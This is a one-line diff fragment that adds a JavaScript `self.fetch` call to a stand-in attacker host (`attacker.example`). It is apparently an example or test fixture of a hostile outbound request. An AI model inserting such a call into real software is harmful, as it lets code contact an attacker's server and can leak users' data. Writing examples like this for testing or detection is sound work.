@@ -1,0 +1,1 @@
+self.fetch('https://attacker.example/')
